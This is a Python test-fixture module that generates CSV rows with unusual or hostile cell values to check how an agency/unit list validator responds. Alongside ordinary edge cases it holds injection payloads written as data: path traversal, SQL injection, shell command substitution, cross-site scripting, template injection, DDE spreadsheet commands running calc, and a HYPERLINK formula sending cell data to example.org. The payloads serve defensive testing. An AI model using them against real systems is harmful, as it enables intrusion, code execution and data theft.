"""Lists that are whole as files and hold one row with a value that is not what it seems."""

from .case import GOOD, BadFile, holding, listed

AGENCY, UNIT, PREDICATE, YEAR = range(4)
_MODEL = ("Kabupaten Pacitan", "Puskesmas Arjosari", "WBK", "2023")


def _one(name: str, wrong: str, column: int, value: str, outcome: str, told: str = "") -> BadFile:
    """Describe the good list with one more row, in which one cell holds the value."""
    row = tuple(value if place == column else cell for place, cell in enumerate(_MODEL))
    rejected = 1 if outcome == "rejects" else 0
    return BadFile(f"{name}.csv", wrong, holding(lambda: listed(row)), outcome, GOOD + 1, rejected, told=told)


_YEARS = [
    ("year-20222", "year 20222", "20222", "rejects"),
    ("year-1899", "year 1899", "1899", "rejects"),
    ("year-2097", "a year to come", "2097", "rejects"),
    ("year-pair", "year 2023/2024", "2023/2024", "fine"),
    ("year-negative", "year -2023", "-2023", "rejects"),
    ("year-half", "year 2023.5", "2023.5", "rejects"),
    ("year-power", "year 2.023e3", "2.023e3", "rejects"),
    ("year-1e3", "year 1e3", "1e3", "rejects"),
    ("year-words", "year in words", "dua ribu dua puluh tiga", "rejects"),
    ("year-roman", "year in Roman numerals", "MMXXIII", "rejects"),
    ("year-serial", "the number by which a spreadsheet stores 31 December 2023", "45291", "rejects"),
    ("year-two", "year 23", "23", "rejects"),
    ("year-nan", "year NaN", "NaN", "rejects"),
    ("year-infinite", "year inf", "inf", "rejects"),
    ("year-overflow", "year 1e999", "1e999", "rejects"),
    ("year-hex", "year 0x7E7", "0x7E7", "rejects"),
    ("year-underscore", "year 2_023", "2_023", "rejects"),
    ("year-digits", "a year of 5,000 digits", "9" * 5000, "rejects"),
    ("year-superscript", "year 202³", "202³", "rejects"),
    ("year-footnote", "year 2023 with a footnote mark", "2023¹", "fine"),
    ("year-two-years", "two years in one cell", "2019, 2023", "rejects"),
    ("year-formula", "a formula as year", "=2023+0", "rejects"),
    ("year-zero", "year 0", "0", "rejects"),
    ("year-dot-zero", "year 2023.0", "2023.0", "fine"),
    ("year-spaces", "hard spaces around the year", "\u00a02023\u200b ", "fine"),
    ("year-fiscal", "year TA 2023", "TA 2023", "fine"),
    ("year-month", "December 2023 in words", "Desember 2023", "fine"),
    ("year-date", "a date", "12/12/2023", "fine"),
    ("year-iso", "a date and time", "2023-12-12 00:00:00", "fine"),
    ("year-full-width", "full-width digits", "２０２３", "fine"),
    ("year-apostrophe", "an apostrophe before the year", "'2023", "fine"),
]
_PREDICATES = [
    ("predicate-both", "WBK/WBBM in one cell", "WBK/WBBM", "fine"),
    ("predicate-slip", "WKB", "WKB", "rejects"),
    ("predicate-emoji", "an emoji", "🏆", "rejects"),
    ("predicate-number", "a number", "1", "rejects"),
    ("predicate-no", "not WBK", "tidak WBK", "rejects"),
    ("predicate-long", "a predicate of 30,000 characters", "WBK " * 7500, "fine"),
    ("predicate-homoglyph", "WBK with a Cyrillic В", "WВK", "fine"),
    ("predicate-dash", "a dash", "-", "fine"),
    ("predicate-words", "Wilayah Bebas dr Korupsi", "Wilayah Bebas dr Korupsi", "fine"),
    ("predicate-small", "wbk. with a dot", " wbk. ", "fine"),
    ("predicate-toward", "menuju WBK", "Menuju WBK", "fine"),
    ("predicate-twice", "WBK twice", "WBK; WBK", "fine"),
    ("predicate-full-width", "full-width letters", "ＷＢＫ", "fine"),
]
_AGENCIES = [
    ("agency-homoglyph", "a Cyrillic а in Kabupaten", "K\u0430bup\u0430ten Pacitan", "fine"),
    ("agency-full-width", "full-width letters", "Ｋａｂｕｐａｔｅｎ Ｐａｃｉｔａｎ", "fine"),
    ("agency-zero-width", "zero-width spaces and joiners", "Kabu\u200bpaten\u200d Paci\u2060tan", "fine"),
    ("agency-soft-hyphen", "soft hyphens", "Kabu\u00adpaten Paci\u00adtan", "fine"),
    ("agency-bidi", "marks that turn the reading order round", "\u202eKabupaten Pacitan\u202c", "fine"),
    ("agency-isolate", "marks that hide what follows", "\u2067Kabupaten Pacitan\u2069\u200f", "fine"),
    (
        "agency-zalgo",
        "300 combining marks on a letter",
        "Kabupaten P" + "\u0301\u0327\u0338" * 100 + "acitan",
        "fine",
    ),
    ("agency-decomposed", "accents as marks of their own", "Kabupate\u0301n Pacitan", "fine"),
    ("agency-hard-spaces", "hard, thin and ideographic spaces", "Kabupaten\u00a0\u2009\u3000Pacitan", "fine"),
    ("agency-entities", "html entities", "Kabupaten&nbsp;Pacitan&#32;", "fine"),
    ("agency-na", "the letters NA", "NA", "rejects"),
    ("agency-null", "the word NULL", "NULL", "rejects"),
    ("agency-error", "an error of a spreadsheet", "#REF!", "rejects"),
    ("agency-number", "a number", "-3.5", "rejects"),
    ("agency-thousands", "a number with dots", "1.234.567", "rejects"),
    ("agency-path", "a path", "../../../../etc/passwd", "rejects"),
    ("agency-format", "placeholders of format strings", "%s%n{0}{agency.__class__}", "rejects"),
    ("agency-template", "a template", "{{7*7}}${7*7}<%= 7*7 %>", "rejects"),
    ("agency-sql", "sql", "'; DROP TABLE agencies; --", "rejects"),
    ("agency-shell", "a shell command", "$(touch pwned)`touch pwned`", "rejects"),
    ("agency-script", "a script", "<script>alert(document.cookie)</script>", "rejects"),
    ("agency-pattern", "a pattern that takes for ever", "(a+)+$" + "a" * 40 + "!", "rejects"),
    ("agency-words", "4,000 words", "kabupaten kota " * 2000, "rejects"),
    ("agency-letters", "30,000 letters without a space", "kabupaten" * 3333, "rejects"),
    ("agency-dots", "30,000 dots", "." * 30_000, "rejects"),
    ("agency-brackets", "10,000 open brackets", "(" * 10_000, "rejects"),
    ("agency-dashes", "10,000 dashes between letters", "a-" * 10_000, "rejects"),
    ("agency-escapes", "terminal commands", "\x1b[31mKabupaten\x1b[0m \x07Palsu", "rejects"),
    ("agency-separator", "the separator of our own lists", "Kota|Kabupaten|a|b", "rejects"),
]
_FORMULAS = [
    ("formula-hyperlink", "a link that calls out", '=HYPERLINK("http://example.org/?"&A1;"klik")'),
    ("formula-command", "a command through DDE", "=cmd|' /C calc'!A0"),
    ("formula-plus", "a plus", "+1+cmd|' /C calc'!A0"),
    ("formula-minus", "a minus", "-1+cmd|' /C calc'!A0"),
    ("formula-at", "an at sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-tab", "a tab before a formula", "\t=1+1"),
    ("formula-return", "a carriage return before a formula", "\r=1+1"),
    ("formula-newline", "a line end before a formula", "\n=1+1"),
    ("formula-space", "a space before a formula", " =1+1"),
    ("formula-hard-space", "a hard space before a formula", "\u00a0=1+1"),
    ("formula-bom", "an invisible mark before a formula", "\ufeff=1+1"),
    ("formula-full-width", "a full-width sign", "＝1+1"),
    ("formula-quote", "a quote that would end the cell", '",=1+1,"'),
]
_UNITS = [
    ("unit-script", "a script", "<script>alert(1)</script> Puskesmas"),
    ("unit-picture", "a picture that runs a script", '"><img src=x onerror=alert(1)>'),
    ("unit-link", "a link that runs a script", "<a href='javascript:alert(1)'>Puskesmas</a>"),
    ("unit-style", "a style that hides the page", "</style></table><style>*{display:none}</style>Puskesmas"),
    ("unit-comment", "a comment that swallows the page", "<!-- Puskesmas"),
    ("unit-break", "line ends in the name", "Puskesmas\n\n\nArjosari"),
    ("unit-bidi", "marks that turn the reading order round", "Puskesmas \u202eirasojrA"),
    ("unit-emoji", "emoji with joiners", "Puskesmas 👩\u200d⚕️ Arjosari"),
    ("unit-zalgo", "300 combining marks", "Puskesmas A" + "\u0301\u0327\u0338" * 100),
    ("unit-escapes", "terminal commands", "\x1b[2J\x1b[HPuskesmas"),
    ("unit-private", "characters of nobody", "Puskesmas \ue000\ufffe\U0010fffe"),
]

FILES = [
    *(_one(name, wrong, YEAR, value, outcome, "year") for name, wrong, value, outcome in _YEARS),
    *(_one(name, wrong, PREDICATE, value, outcome, "predicate") for name, wrong, value, outcome in _PREDICATES),
    *(_one(name, wrong, AGENCY, value, outcome, "agency") for name, wrong, value, outcome in _AGENCIES),
    *(_one(f"{name}-in-agency", f"{wrong}, as agency", AGENCY, value, "rejects") for name, wrong, value in _FORMULAS),
    *(_one(f"{name}-in-unit", f"{wrong}, as unit", UNIT, value, "fine") for name, wrong, value in _FORMULAS),
    *(_one(name, f"{wrong}, in a unit", UNIT, value, "fine") for name, wrong, value in _UNITS),
    BadFile(
        "unit-several.csv",
        "three units in one cell",
        holding(
            lambda: listed(
                (*_MODEL[:1], "1. Puskesmas Arjosari\n2. Puskesmas Kebonagung\n3. RSUD Pacitan", *_MODEL[2:])
            )
        ),
        "fine",
        GOOD + 3,
    ),
]
